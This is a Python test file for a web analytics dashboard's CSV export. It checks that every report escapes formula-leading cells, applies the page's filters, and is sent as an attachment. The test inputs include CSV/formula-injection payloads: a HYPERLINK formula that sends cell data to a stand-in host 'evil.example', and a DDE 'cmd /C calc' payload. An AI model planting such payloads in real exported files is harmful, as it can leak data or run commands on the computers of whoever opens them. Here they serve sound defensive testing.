"""CSV export of every report: same filters as the page, attachment, and no formula injection."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from dashboard.csv_export import escape_cell, to_csv
from dashboard.stats import periods
from dashboard.report_catalog import REPORTS
from tests.dashboard.web_client import add_user, login, track
from tests.support import CHROME_UA, FIREFOX_UA, LiveServer


def test_escape_cell() -> None:
    for payload in ("=1+1", "+SUM(A1)", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert escape_cell(payload) == "'" + payload
    assert escape_cell("plain") == "plain"
    assert escape_cell(-12.5) == -12.5  # numbers stay numbers
    assert escape_cell(None) == ""
    text = to_csv(["a", "b"], [["=HYPERLINK(\"http://x\")", 3], ["a,b", 1.5]])
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["'=HYPERLINK(\"http://x\")", "3"], ["a,b", "1.5"]]


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_every_report_exports_escaped_csv_with_the_page_filters(live_server: LiveServer) -> None:
    site = live_server.add_site("example.com")
    t = site.token_auth
    formula_title = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    track(live_server, site.id, t, ip="81.1.0.1", ua=CHROME_UA, country="de", url="https://example.com/a",
          action_name=formula_title)
    track(live_server, site.id, t, ip="81.1.0.1", ua=CHROME_UA, country="de", url="https://example.com/a",
          e_c="Shop", e_a="Buy", e_n="@SUM(1+1)*cmd|' /C calc'!A0", dimension1="+1-1")
    track(live_server, site.id, t, ip="23.1.0.2", ua=FIREFOX_UA, country="us", url="https://example.com/b",
          action_name="-2+3")
    track(live_server, site.id, t, ip="23.1.0.2", ua=FIREFOX_UA, country="us", url="https://example.com/b", search="=cmd")
    add_user(live_server, "admin@example.com", admin=True)
    client = login(live_server, "admin@example.com")

    titles = client.get(f"/sites/{site.id}/export/page_titles.csv?period=today")
    assert titles.status_code == 200
    assert titles.headers["content-type"].startswith("text/csv")
    disposition = titles.headers["content-disposition"]
    assert disposition.startswith("attachment;") and disposition.endswith('.csv"')
    rows = _csv(titles)
    assert rows[0] == ["Title", "visitors", "pageviews"]
    assert ["'" + formula_title, "1", "1"] in rows
    assert ["'-2+3", "1", "1"] in rows
    events = _csv(client.get(f"/sites/{site.id}/export/custom_events.csv?period=today"))
    assert events[1][0] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    props = _csv(client.get(f"/sites/{site.id}/export/props.csv?period=today&key=dimension1"))
    assert props[1][0] == "'+1-1"
    search = _csv(client.get(f"/sites/{site.id}/export/search_terms.csv?period=today"))
    assert search[1][0] == "'=cmd"
    # No cell anywhere starts with a formula character.
    for name in [*REPORTS, "timeseries", "kpis"]:
        response = client.get(f"/sites/{site.id}/export/{name}.csv?period=today")
        assert response.status_code == 200, name
        for row in _csv(response)[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell.startswith("'"), (name, cell)
                if cell.startswith("-"):
                    float(cell)  # only a negative number may start with "-"
    # The page's filters apply to the CSV.
    filtered = _csv(client.get(f"/sites/{site.id}/export/countries.csv", params={"period": "today", "f": "visit:country,is,US"}))
    assert filtered == [["Country", "visitors", "percentage"], ["US", "1", "100.0"]]
    unfiltered = _csv(client.get(f"/sites/{site.id}/export/countries.csv?period=today"))
    assert sorted(row[0] for row in unfiltered[1:]) == ["DE", "US"]
    today = periods.today_in(site.timezone)
    week = {"period": "custom", "from": (today - timedelta(days=6)).isoformat(), "to": today.isoformat()}
    series = _csv(client.get(f"/sites/{site.id}/export/timeseries.csv", params=week))
    assert series[0][:2] == ["date", "visitors"] and len(series) == 8
    assert sum(int(row[1]) for row in series[1:]) == 2
    # "7d" is the seven days before today, as in Plausible: today's visitors are not in it.
    last_week = _csv(client.get(f"/sites/{site.id}/export/timeseries.csv?period=7d"))
    assert len(last_week) == 8 and last_week[-1][0] == (today - timedelta(days=1)).isoformat()
    assert sum(int(row[1]) for row in last_week[1:]) == 0
    assert client.get(f"/sites/{site.id}/export/nope.csv").status_code == 404
